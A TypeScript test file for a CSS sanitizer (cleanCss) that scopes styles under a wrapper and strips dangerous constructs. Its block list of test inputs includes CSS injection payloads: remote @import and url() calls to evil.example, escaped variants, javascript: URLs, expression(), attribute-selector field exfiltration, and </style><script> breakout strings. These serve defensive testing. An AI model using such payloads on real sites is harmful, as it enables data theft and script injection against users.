import { cleanCss } from '../../../server/src/lib/css.ts'

const kept: [string, string, string][] = [
  ['a rule', '.card { color: red; border: 0 }', '.screen .card{color:red;border:0}'],
  ['several selectors', '.a, .b > .c:hover, * {color:red}', '.screen .a,.screen .b>.c:hover,.screen *{color:red}'],
  [
    'the page wrapper by its names',
    'html, body, page, :root, :scope, .screen {color:red}',
    '.screen,.screen,.screen,.screen,.screen,.screen{color:red}',
  ],
  [
    'the wrapper and what is in it',
    'html.x .card, .screen.theme-dark .card {color:red}',
    '.screen.x .card,.screen.theme-dark .card{color:red}',
  ],
  ['custom properties', ':root { --my-color: #123456; --gap: calc(1px + 2%) }', '.screen{--my-color:#123456;--gap:calc(1px + 2%)}'],
  [
    'siblings inside the wrapper',
    '.a ~ .b, .screen > .a + .b, :root .a ~ .b {color:red}',
    '.screen .a~.b,.screen>.a+.b,.screen .a~.b{color:red}',
  ],
  ['conditions', '@media (min-width:600px){.a{color:red}}', '@media (min-width:600px){.screen .a{color:red}}'],
  ['what the browser can do', '@supports (display:grid){.a{display:grid}}', '@supports (display:grid){.screen .a{display:grid}}'],
  ['animations', '@keyframes my-swim{from{opacity:0}50%{opacity:1}}', '@keyframes my-swim{from{opacity:0}50%{opacity:1}}'],
  ['pictures of the site', ".a{background:url('/media/float.png')}", '.screen .a{background:url(/media/float.png)}'],
  [
    'pictures in themselves',
    '.a{background:url(data:image/png;base64,iVBORw0KGgo=)}',
    '.screen .a{background:url(data:image/png;base64,iVBORw0KGgo=)}',
  ],
  [
    'gradients',
    '.a{background:linear-gradient(90deg,rgba(0,0,0,.5),transparent)}',
    '.screen .a{background:linear-gradient(90deg,rgba(0,0,0,.5),transparent)}',
  ],
  [
    'what computes and draws',
    '.a{width:fit-content(20em);grid-template-columns:repeat(2,minmax(0,1fr))}',
    '.screen .a{width:fit-content(20em);grid-template-columns:repeat(2,minmax(0,1fr))}',
  ],
  ['texts', '.a::after{content:"}\\"{"}', '.screen .a::after{content:"}\\"{"}'],
  ['comments, which go', '/* </style> */ .a{/* x */color:red;;}', '.screen .a{color:red}'],
  ['an end that is missing', '.a{color:red', '.screen .a{color:red}'],
  ['nothing', '', ''],
]

/** What each must not leave behind; a rule beside it stays. */
const refusedParts: [string, string][] = [
  ['another sheet', '@import "https://evil.example/x.css";'],
  ['another sheet, by url', '@import url(//evil.example/x.css);'],
  ['another sheet, escaped', '@\\69mport "https://evil.example/x.css";'],
  ['another charset', '@charset "utf-7";'],
  ['namespaces', '@namespace url(https://evil.example);'],
  ['fonts', '@font-face{font-family:x;src:url(https://evil.example/x.woff)}'],
  ['layers', '@layer evil{.evil{color:red}}'],
  ['a file from elsewhere', '.evil{background:url(https://evil.example/x)}'],
  ['without a scheme', '.evil{background:url(//evil.example/x)}'],
  ['quoted', '.evil{background:url("https://evil.example/x")}'],
  ['with odd letters', '.evil{background:URL( https://evil.example/x )}'],
  ['escaped', '.evil{background:u\\72l(https://evil.example/x)}'],
  ['its address escaped', '.evil{background:url(\\68ttps://evil.example/x)}'],
  ['any file of the server', '.evil{background:url(/wp-json/wp/v2/site/logout)}'],
  ['out of the folder', '.evil{background:url(/media/../wp-json/evil)}'],
  ['a script as a file', '.evil{background:url(javascript:alert(1))}'],
  ['a page as data', '.evil{background:url("data:text/html,evil")}'],
  ['a text that loads', '.evil{background:image-set("https://evil.example/x" 1x)}'],
  ['the same with a prefix', '.evil{background:-webkit-image-set("https://evil.example/x" 1x)}'],
  ['src()', '.evil{background:src("https://evil.example/x")}'],
  ['through a variable', '.evil{--evil:url(https://evil.example/x)}'],
  ['as the fallback of a variable', '.evil{background:var(--x,url(https://evil.example/x))}'],
  ['a cursor', '.evil{cursor:url(https://evil.example/x),auto}'],
  ['a filter by reference', '.evil{filter:url(https://evil.example/x#f)}'],
  ['expressions', '.evil{width:expression(alert(1))}'],
  ['expressions in odd letters', '.evil{width:eXpReSsIoN(alert(1))}'],
  ['behaviours', '.evil{behavior:url(#default#evil)}'],
  ['bindings', '.evil{-moz-binding:url(/media/evil.xml)}'],
  ['escaped names', '.evil{b\\65havior:none}'],
  ['old filters', '.evil{filter:progid:DXImageTransform.Microsoft.Alpha(src="evil")}'],
  ['what steals a field letter by letter', 'input[value^="a"]{background:url(https://evil.example/a)}'],
  ['rules inside rules', '.evil{&:hover{color:red}}'],
  ['brackets that open more', '.evil{--evil:{color:red}}'],
  ['what stands beside the wrapper', ':root ~ .evil{color:red}'],
  ['what comes right after it', '.screen + .evil{color:red}'],
  ['what stands beside it in a theme', '.screen.theme-dark ~ .evil{color:red}'],
  ['the same by another of its names', 'BODY ~ .evil, html.x + .evil{color:red}'],
  ['the same behind what hides it', '.good, :root:not(.x) ~ .evil{color:red}'],
  ['a selector that begins with its relation', '~ .evil{color:red}'],
  ['the next one', '+ .evil{color:red}'],
  ['what stands beside it, in a condition', '@media all{:scope ~ .evil{color:red}}'],
  ['what reaches into components', '.x /deep/ .evil{color:red}'],
  ["an animation by a name that may be the app's own", '@keyframes evil{from{opacity:0}}'],
  ['the same as a text', '@keyframes "my-evil"{from{opacity:0}}'],
  ['what no one can read', '.evil{color:@evil}'],
  ['unknown selectors', '.x:evil(</style>){color:red}'],
]

describe('keeps', () => {
  test.each(kept)('%s', (_, css, wanted) => {
    expect(cleanCss(css)).toEqual({ css: wanted, faults: [] })
  })

  test.each(kept)('%s, as it is the second time', (_, css) => {
    const once = cleanCss(css).css
    expect(cleanCss(once)).toEqual({ css: once, faults: [] })
  })
})

describe('keeps, as nothing is loaded by it,', () => {
  test.each([
    ...['rgb', 'rgba', 'hsl', 'hsla', 'hwb', 'lab', 'lch', 'oklab', 'oklch', 'color-mix', 'light-dark', 'calc', 'min', 'max', 'clamp'],
    ...['var', 'env', 'linear-gradient', 'radial-gradient', 'conic-gradient'],
    ...['repeating-linear-gradient', 'repeating-radial-gradient', 'repeating-conic-gradient'],
    ...['translate', 'translatex', 'translatey', 'translatez', 'translate3d', 'scale', 'scalex', 'scaley', 'scalez', 'scale3d'],
    ...['rotate', 'rotatex', 'rotatey', 'rotatez', 'rotate3d', 'skew', 'skewx', 'skewy', 'matrix', 'matrix3d', 'perspective'],
    ...['blur', 'brightness', 'contrast', 'drop-shadow', 'grayscale', 'hue-rotate', 'invert', 'opacity', 'saturate', 'sepia'],
    ...['cubic-bezier', 'steps', 'linear', 'inset', 'circle', 'ellipse', 'polygon', 'path', 'rect', 'minmax', 'repeat', 'fit-content'],
    ...['counter', 'counters'],
  ])('%s()', (name) => {
    expect(cleanCss(`.a{x:${name}(--x)}`)).toEqual({ css: `.screen .a{x:${name}(--x)}`, faults: [] })
  })
})

describe('leaves out', () => {
  test.each(refusedParts)('%s', (_, part) => {
    const { css, faults } = cleanCss(`.before{margin:0} ${part} .after{margin:0}`)
    expect(css).not.toMatch(/evil|url|import|charset|expression|behavior|script/i)
    expect(css).toContain('.screen .before{margin:0}')
    expect(faults).toEqual([expect.stringMatching(/^line 1: /), ...faults.slice(1)])
  })

  test('and says on which line', () => {
    expect(cleanCss('.a{color:red}\n\n.b{width:expression(1)}').faults).toEqual(['line 3: expression() is not allowed'])
  })
})

describe('nothing ends the style element', () => {
  test.each([
    '</style><script>alert(1)</script>',
    '.a{color:red}</style><script>alert(1)</script>',
    ".a{content:'</style><script>alert(1)</script>'}",
    '.a{content:"<!--"}',
    '<!-- .a{color:red} -->',
    '.a{--x:</style>}',
    '.a{--x:"</STYLE >"}',
    '.a[title="</style>"]{color:red}',
    '@media x{}</style>',
    '.a{background:url("data:image/svg+xml,<svg></svg>")}',
    '.\\3c /style\\3e{color:red}',
    '/* </style> */',
  ])('%s', (css) => {
    expect(cleanCss(css).css).not.toMatch(/<[/!]/)
  })
})
